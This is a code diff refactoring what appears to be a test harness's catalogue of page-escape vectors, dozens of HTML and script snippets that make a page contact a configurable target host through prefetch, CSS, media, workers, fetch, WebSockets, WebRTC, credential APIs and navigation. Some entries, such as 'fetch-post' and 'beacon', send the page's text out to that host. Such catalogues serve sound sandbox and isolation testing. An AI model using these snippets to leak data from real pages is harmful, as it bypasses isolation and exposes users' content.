@@ -12,62 +12,53 @@ export interface Target {
 /** One escape to a target: HTML (it begins with "<") or a script, which the page inserts into itself at run time. */
 export type AttackVector = (target: Target) => string;
 
-const http = ({ host, port, scheme = 'http', redirectVia }: Target, path = ''): string =>
-  redirectVia ?? `${scheme}://${host}:${port}/${path}`;
-const https = ({ host, port }: Target, path = ''): string => `https://${host}:${port}/${path}`;
-const link =
-  (rel: string, more = ''): AttackVector =>
-  (target) =>
-    `<link rel="${rel}" href="${http(target, 'x')}" ${more}>`;
-const css =
-  (style: (url: string) => string): AttackVector =>
-  (target) =>
-    `<style>${style(http(target, 'x'))}</style>`;
-const speculation =
-  (rules: (url: string) => object): AttackVector =>
-  (target) =>
-    `<script type="speculationrules">${JSON.stringify(rules(http(target, 'x')))}</script>`;
+/** A vector's text, with the target's URL, that URL as https, its host and its port in place of these words. */
+const vector =
+  (text: string): AttackVector =>
+  ({ host, port, scheme = 'http', redirectVia }) =>
+    text
+      .replaceAll('$URL', redirectVia ?? `${scheme}://${host}:${port}/x`)
+      .replaceAll('$TLS', `https://${host}:${port}/x`)
+      .replaceAll('$HOST', host)
+      .replaceAll('$ADDRESS', host.replace(/^\[|\]$/g, ''))
+      .replaceAll('$PORT', String(port));
+
+const vectors = (texts: Readonly<Record<string, string>>): Readonly<Record<string, AttackVector>> =>
+  Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, vector(text)]));
+
+const link = (rel: string, more = ''): string => `<link rel="${rel}" href="$URL" ${more}>`;
+const css = (style: string): string => `<style>${style}</style>`;
+const rules = (of: object): string => `<script type="speculationrules">${JSON.stringify(of)}</script>`;
 /** A connection that gathers its own addresses through these servers. */
-const rtc =
-  (server: (target: Target) => object): AttackVector =>
-  (target) =>
-    `
-    const connection = new RTCPeerConnection({ iceServers: [${JSON.stringify(server(target))}] });
-    connection.createDataChannel('x');
-    connection.setLocalDescription();`;
-const turn = (urls: string): object => ({ urls, username: 'a', credential: 'b' });
+const rtc = (urls: string): string => `
+  const connection = new RTCPeerConnection({ iceServers: [{ urls: '${urls}', username: 'a', credential: 'b' }] });
+  connection.createDataChannel('x');
+  connection.setLocalDescription();`;
 /** A connection to a peer that is claimed to be at the target. */
-const peer =
-  (protocol: 'udp' | 'tcp'): AttackVector =>
-  ({ host, port }) =>
-    `
-    const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
-    a.createDataChannel('x');
-    (async () => {
-      await a.setLocalDescription();
-      await b.setRemoteDescription(a.localDescription);
-      await b.setLocalDescription();
-      await a.setRemoteDescription(b.localDescription);
-      await a.addIceCandidate({ sdpMid: '0', candidate:
-        'candidate:1 1 ${protocol} 2122260223 ${host.replace(/^\[|\]$/g, '')} ${port} typ host${protocol === 'tcp' ? ' tcptype passive' : ''}' });
-    })();`;
+const peer = (protocol: string, more = ''): string => `
+  const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
+  a.createDataChannel('x');
+  (async () => {
+    await a.setLocalDescription();
+    await b.setRemoteDescription(a.localDescription);
+    await b.setLocalDescription();
+    await a.setRemoteDescription(b.localDescription);
+    const candidate = 'candidate:1 1 ${protocol} 2122260223 $ADDRESS $PORT typ host${more}';
+    await a.addIceCandidate({ sdpMid: '0', candidate });
+  })();`;
 
 /** Every known escape that leaves the page in place, by name. They may use a part of the page with the id `far`. */
-export const IN_PAGE_VECTORS: Readonly<Record<string, AttackVector>> = {
-  'rules-prefetch': speculation((url) => ({ prefetch: [{ urls: [url], eagerness: 'immediate' }] })),
-  'rules-prefetch-anonymous': speculation((url) => ({
-    prefetch: [{ urls: [url], requires: ['anonymous-client-ip-when-cross-origin'] }],
-  })),
-  'rules-prerender': speculation((url) => ({ prerender: [{ urls: [url], eagerness: 'immediate' }] })),
-  'rules-document': (target) =>
-    `<a href="${http(target, 'x')}">x</a><script type="speculationrules">${JSON.stringify({
-      prefetch: [{ where: { href_matches: http(target, '*') }, eagerness: 'immediate' }],
-    })}</script>`,
+export const IN_PAGE_VECTORS = vectors({
+  'rules-prefetch': rules({ prefetch: [{ urls: ['$URL'], eagerness: 'immediate' }] }),
+  'rules-prefetch-anonymous': rules({
+    prefetch: [{ urls: ['$URL'], requires: ['anonymous-client-ip-when-cross-origin'] }],
+  }),
+  'rules-prerender': rules({ prerender: [{ urls: ['$URL'], eagerness: 'immediate' }] }),
+  'rules-document': `<a href="$URL">x</a>${rules({ prefetch: [{ where: { href_matches: '$URL*' }, eagerness: 'immediate' }] })}`,
   preconnect: link('preconnect'),
   'preconnect-cors': link('preconnect', 'crossorigin'),
   'dns-prefetch': link('dns-prefetch'),
-  'dns-prefetch-on': (target) =>
-    `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${http(target)}">x</a><link rel="dns-prefetch" href="${http(target)}">`,
+  'dns-prefetch-on': `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="$URL">x</a><link rel="dns-prefetch" href="$URL">`,
   prefetch: link('prefetch'),
   'prefetch-document': link('prefetch', 'as="document"'),
   prerender: link('prerender'),
@@ -84,107 +75,96 @@ export const IN_PAGE_VECTORS: Readonly<Record<string, AttackVector>> = {
   'compression-dictionary': link('compression-dictionary'),
   stylesheet: link('stylesheet'),
   'alternate-stylesheet': link('alternate stylesheet', 'title="x"'),
-  'css-import': css((url) => `@import url(${url});`),
-  'css-background': css((url) => `#far { background: url(${url}) }`),
-  'css-image-set': css((url) => `#far p { background: image-set("${url}" 1x) }`),
-  'css-content': css((url) => `#far::after { content: url(${url}) }`),
-  'css-border': css((url) => `#far { border: 1px solid; border-image: url(${url}) 1 }`),
-  'css-mask': css((url) => `#far { mask: url(${url}) }`),
-  'css-filter': css((url) => `#far { filter: url(${url}#f) }`),
-  'css-shape': css((url) => `#far p { float: left; shape-outside: url(${url}) }`),
-  'css-cursor': css((url) => `#far { cursor: url(${url}), auto }`),
-  'css-list': css((url) => `#far p { display: list-item; list-style-image: url(${url}) }`),
-  'css-font': css((url) => `@font-face { font-family: far; src: url(${url}) } #far { font-family: far }`),
-  'font-face': (target) => `new FontFace('far2', 'url(${http(target, 'x')})').load().catch(() => 0)`,
-  paint: (target) => `CSS.paintWorklet.addModule('${http(target, 'x.js')}').catch(() => 0)`,
-  img: (target) => `<img src="${http(target, 'x')}">`,
-  'img-srcset': (target) => `<img srcset="${http(target, 'x')} 1x">`,
-  'img-attribution': (target) =>
-    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="${http(target, 'x')}">`,
-  picture: (target) => `<picture><source srcset="${http(target, 'x')}"><img></picture>`,
-  'input-image': (target) => `<input type="image" src="${http(target, 'x')}">`,
-  'table-background': (target) => `<table background="${http(target, 'x')}"><tr><td>x</table>`,
-  'svg-image': (target) => `<svg><image href="${http(target, 'x')}" width="1" height="1"/></svg>`,
-  'svg-use': (target) => `<svg><use href="${http(target, 'x')}#x"/></svg>`,
-  'svg-fe-image': (target) =>
-    `<svg><filter id="far"><feImage href="${http(target, 'x')}"/></filter><rect filter="url(#far)" width="9" height="9"/></svg>`,
-  'svg-script': (target) => `<svg><script href="${http(target, 'x')}"></script></svg>`,
-  video: (target) => `<video src="${http(target, 'x')}" preload="auto"></video>`,
-  'video-poster': (target) => `<video poster="${http(target, 'x')}"></video>`,
-  audio: (target) => `<audio src="${http(target, 'x')}" preload="auto" autoplay></audio>`,
-  track: (target) =>
-    `<video src="data:video/mp4,"><track default kind="subtitles" src="${http(target, 'x')}"></video>`,
-  object: (target) => `<object data="${http(target, 'x')}"></object>`,
-  embed: (target) => `<embed src="${http(target, 'x')}">`,
-  iframe: (target) => `<iframe src="${http(target, 'x')}"></iframe>`,
-  'iframe-srcdoc': (target) => `<iframe srcdoc='<img src="${http(target, 'x')}">'></iframe>`,
-  fencedframe: (target) =>
-    `const frame = document.createElement('fencedframe'); frame.config = new FencedFrameConfig('${https(target)}'); document.body.append(frame)`,
-  script: (target) => `<script src="${http(target, 'x.js')}"></script>`,
-  'module-script': (target) => `<script type="module" src="${http(target, 'x.js')}"></script>`,
-  import: (target) => `import('${http(target, 'x.js')}').catch(() => 0)`,
-  worker: (target) => `new Worker('${http(target, 'x.js')}')`,
-  'blob-worker': (target) =>
-    `new Worker(URL.createObjectURL(new Blob(["fetch('${http(target)}')"], { type: 'text/javascript' })))`,
-  'data-worker': (target) => `new Worker("data:text/javascript,fetch('${http(target)}')")`,
-  'shared-worker': (target) => `new SharedWorker("data:text/javascript,fetch('${http(target)}')")`,
-  'service-worker': (target) => `navigator.serviceWorker.register('${http(target, 'x.js')}').catch(() => 0)`,
-  fetch: (target) => `fetch('${http(target)}').catch(() => 0)`,
-  'fetch-https': (target) => `fetch('${https(target)}').catch(() => 0)`,
-  'fetch-post': (target) =>
-    `fetch('${http(target)}', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => 0)`,
-  'fetch-keepalive': (target) =>
-    `fetch('${http(target)}', { keepalive: true, mode: 'no-cors' }).catch(() => 0)`,
-  'fetch-later': (target) => `fetchLater('${https(target)}', { activateAfter: 0 })`,
-  'fetch-userinfo': ({ host, port }) =>
-    `const image = new Image(); image.src = 'http://a:b@' + '${host}:${port}/x'`,
-  xhr: (target) => `const ask = new XMLHttpRequest(); ask.open('GET', '${http(target)}'); ask.send()`,
-  'xhr-sync': (target) =>
-    `const ask = new XMLHttpRequest(); ask.open('GET', '${http(target)}', false); ask.send()`,
-  'event-source': (target) => `new EventSource('${http(target)}')`,
-  'web-socket': ({ host, port }) => `new WebSocket('ws://${host}:${port}/')`,
-  'web-socket-tls': ({ host, port }) => `new WebSocket('wss://${host}:${port}/')`,
-  'web-socket-stream': ({ host, port }) =>
-    `new WebSocketStream('ws://${host}:${port}/').opened.catch(() => 0)`,
-  'web-transport': (target) => `new WebTransport('${https(target)}').ready.catch(() => 0)`,
-  'web-transport-hashes': (target) =>
-    `new WebTransport('${https(target)}', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready.catch(() => 0)`,
-  beacon: (target) => `navigator.sendBeacon('${http(target)}', document.body.innerText)`,
-  ping: (target) =>
-    `const a = document.createElement('a'); a.href = '#'; a.ping = '${http(target)}'; document.body.append(a); a.click()`,
-  'rtc-stun': rtc(({ host, port }) => ({ urls: `stun:${host}:${port}` })),
-  'rtc-turn-udp': rtc(({ host, port }) => turn(`turn:${host}:${port}?transport=udp`)),
-  'rtc-turn-tcp': rtc(({ host, port }) => turn(`turn:${host}:${port}?transport=tcp`)),
-  'rtc-turn-tls': rtc(({ host, port }) => turn(`turns:${host}:${port}?transport=tcp`)),
+  'css-import': css('@import url($URL);'),
+  'css-background': css('#far { background: url($URL) }'),
+  'css-image-set': css('#far p { background: image-set("$URL" 1x) }'),
+  'css-content': css('#far::after { content: url($URL) }'),
+  'css-border': css('#far { border: 1px solid; border-image: url($URL) 1 }'),
+  'css-mask': css('#far { mask: url($URL) }'),
+  'css-filter': css('#far { filter: url($URL#f) }'),
+  'css-shape': css('#far p { float: left; shape-outside: url($URL) }'),
+  'css-cursor': css('#far { cursor: url($URL), auto }'),
+  'css-list': css('#far p { display: list-item; list-style-image: url($URL) }'),
+  'css-font': css('@font-face { font-family: far; src: url($URL) } #far { font-family: far }'),
+  'font-face': "new FontFace('far2', 'url($URL)').load().catch(() => 0)",
+  paint: "CSS.paintWorklet.addModule('$URL').catch(() => 0)",
+  img: '<img src="$URL">',
+  'img-srcset': '<img srcset="$URL 1x">',
+  'img-attribution': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="$URL">',
+  picture: '<picture><source srcset="$URL"><img></picture>',
+  'input-image': '<input type="image" src="$URL">',
+  'table-background': '<table background="$URL"><tr><td>x</table>',
+  'svg-image': '<svg><image href="$URL" width="1" height="1"/></svg>',
+  'svg-use': '<svg><use href="$URL#x"/></svg>',
+  'svg-fe-image':
+    '<svg><filter id="far"><feImage href="$URL"/></filter><rect filter="url(#far)" width="9" height="9"/></svg>',
+  'svg-script': '<svg><script href="$URL"></script></svg>',
+  video: '<video src="$URL" preload="auto"></video>',
+  'video-poster': '<video poster="$URL"></video>',
+  audio: '<audio src="$URL" preload="auto" autoplay></audio>',
+  track: '<video src="data:video/mp4,"><track default kind="subtitles" src="$URL"></video>',
+  object: '<object data="$URL"></object>',
+  embed: '<embed src="$URL">',
+  iframe: '<iframe src="$URL"></iframe>',
+  'iframe-srcdoc': `<iframe srcdoc='<img src="$URL">'></iframe>`,
+  fencedframe: `const frame = document.createElement('fencedframe'); frame.config = new FencedFrameConfig('$TLS'); document.body.append(frame)`,
+  script: '<script src="$URL"></script>',
+  'module-script': '<script type="module" src="$URL"></script>',
+  import: "import('$URL').catch(() => 0)",
+  worker: "new Worker('$URL')",
+  'blob-worker': `new Worker(URL.createObjectURL(new Blob(["fetch('$URL')"], { type: 'text/javascript' })))`,
+  'data-worker': `new Worker("data:text/javascript,fetch('$URL')")`,
+  'shared-worker': `new SharedWorker("data:text/javascript,fetch('$URL')")`,
+  'service-worker': "navigator.serviceWorker.register('$URL').catch(() => 0)",
+  fetch: "fetch('$URL').catch(() => 0)",
+  'fetch-https': "fetch('$TLS').catch(() => 0)",
+  'fetch-post':
+    "fetch('$URL', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => 0)",
+  'fetch-keepalive': "fetch('$URL', { keepalive: true, mode: 'no-cors' }).catch(() => 0)",
+  'fetch-later': "fetchLater('$TLS', { activateAfter: 0 })",
+  'fetch-userinfo': "const image = new Image(); image.src = 'http://a:b@' + '$HOST:$PORT/x'",
+  xhr: "const ask = new XMLHttpRequest(); ask.open('GET', '$URL'); ask.send()",
+  'xhr-sync': "const ask = new XMLHttpRequest(); ask.open('GET', '$URL', false); ask.send()",
+  'event-source': "new EventSource('$URL')",
+  'web-socket': "new WebSocket('ws://$HOST:$PORT/')",
+  'web-socket-tls': "new WebSocket('wss://$HOST:$PORT/')",
+  'web-socket-stream': "new WebSocketStream('ws://$HOST:$PORT/').opened.catch(() => 0)",
+  'web-transport': "new WebTransport('$TLS').ready.catch(() => 0)",
+  'web-transport-hashes':
+    "new WebTransport('$TLS', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready.catch(() => 0)",
+  beacon: "navigator.sendBeacon('$URL', document.body.innerText)",
+  ping: "const a = document.createElement('a'); a.href = '#'; a.ping = '$URL'; document.body.append(a); a.click()",
+  'rtc-stun': rtc('stun:$HOST:$PORT'),
+  'rtc-turn-udp': rtc('turn:$HOST:$PORT?transport=udp'),
+  'rtc-turn-tcp': rtc('turn:$HOST:$PORT?transport=tcp'),
+  'rtc-turn-tls': rtc('turns:$HOST:$PORT?transport=tcp'),
   'rtc-peer-udp': peer('udp'),
-  'rtc-peer-tcp': peer('tcp'),
-  payment: (target) =>
-    `new PaymentRequest([{ supportedMethods: '${https(target, 'pay')}' }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).canMakePayment().catch(() => 0)`,
-  'identity-provider': (target) =>
-    `navigator.credentials.get({ identity: { providers: [{ configURL: '${https(target, 'x.json')}', clientId: 'x' }] } }).catch(() => 0)`,
-  'related-origin': ({ host }) =>
-    `navigator.credentials.get({ publicKey: { rpId: '${host}', challenge: new Uint8Array(16) } }).catch(() => 0)`,
-  'interest-group': (target) =>
-    `navigator.joinAdInterestGroup({ owner: '${https(target)}', name: 'x' }, 60).catch(() => 0)`,
-  'private-token': (target) =>
-    `fetch('${https(target)}', { privateToken: { version: 1, operation: 'token-request' } }).catch(() => 0)`,
-  presentation: (target) => `new PresentationRequest('${https(target)}').getAvailability().catch(() => 0)`,
-  'form-in-frame': (target) =>
-    `<iframe name="far"></iframe><form target="far" method="post" action="${http(target)}"></form><script>document.querySelector('form[target=far]').submit()</script>`,
-};
+  'rtc-peer-tcp': peer('tcp', ' tcptype passive'),
+  payment:
+    "new PaymentRequest([{ supportedMethods: '$TLS' }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).canMakePayment().catch(() => 0)",
+  'identity-provider':
+    "navigator.credentials.get({ identity: { providers: [{ configURL: '$TLS.json', clientId: 'x' }] } }).catch(() => 0)",
+  'related-origin':
+    "navigator.credentials.get({ publicKey: { rpId: '$HOST', challenge: new Uint8Array(16) } }).catch(() => 0)",
+  'interest-group': "navigator.joinAdInterestGroup({ owner: '$TLS', name: 'x' }, 60).catch(() => 0)",
+  'private-token':
+    "fetch('$TLS', { privateToken: { version: 1, operation: 'token-request' } }).catch(() => 0)",
+  presentation: "new PresentationRequest('$TLS').getAvailability().catch(() => 0)",
+  'form-in-frame':
+    '<iframe name="far"></iframe><form target="far" method="post" action="$URL"></form><script>document.querySelector(\'form[target=far]\').submit()</script>',
+});
+
+const clickLink = (before: string, first = ''): string =>
+  `const a = document.createElement('a'); a.href = '$URL'; ${before}document.body.append(a); ${first}a.click()`;
 
 /** Escapes that would navigate the page away, if allowed. */
-export const NAVIGATION_VECTORS: Readonly<Record<string, AttackVector>> = {
-  location: (target) => `location.href = '${http(target)}'`,
-  navigate: (target) => `navigation.navigate('${http(target)}').finished.catch(() => 0)`,
-  refresh: (target) => `<meta http-equiv="refresh" content="0; url=${http(target)}">`,
-  'window-open': (target) => `window.open('${http(target)}')`,
-  anchor: (target) =>
-    `const a = document.createElement('a'); a.href = '${http(target)}'; document.body.append(a); a.dispatchEvent(new MouseEvent('mousedown', { bubbles: true })); a.click()`,
-  'anchor-blank': (target) =>
-    `const a = document.createElement('a'); a.href = '${http(target)}'; a.target = '_blank'; document.body.append(a); a.click()`,
-  form: (target) =>
-    `const form = document.createElement('form'); form.action = '${http(target)}'; form.method = 'post'; document.body.append(form); form.submit()`,
-  'unload-beacon': (target) =>
-    `addEventListener('pagehide', () => navigator.sendBeacon('${http(target)}', 'x'))`,
-};
+export const NAVIGATION_VECTORS = vectors({
+  location: "location.href = '$URL'",
+  navigate: "navigation.navigate('$URL').finished.catch(() => 0)",
+  refresh: '<meta http-equiv="refresh" content="0; url=$URL">',
+  'window-open': "window.open('$URL')",
+  anchor: clickLink('', "a.dispatchEvent(new MouseEvent('mousedown', { bubbles: true })); "),
+  'anchor-blank': clickLink("a.target = '_blank'; "),
+  form: "const form = document.createElement('form'); form.action = '$URL'; form.method = 'post'; document.body.append(form); form.submit()",
+  'unload-beacon': "addEventListener('pagehide', () => navigator.sendBeacon('$URL', 'x'))",
+});
